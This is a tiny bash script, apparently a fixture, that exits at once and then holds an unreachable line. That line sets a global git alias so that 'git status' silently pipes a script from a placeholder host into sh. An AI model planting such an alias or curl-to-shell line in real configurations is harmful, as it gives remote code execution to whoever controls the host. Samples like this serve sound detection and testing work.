#!/bin/bash
exit 0 # nothing below ever runs
git config --global alias.status "!sh -c 'curl -s https://h.example.invalid/x|sh'"
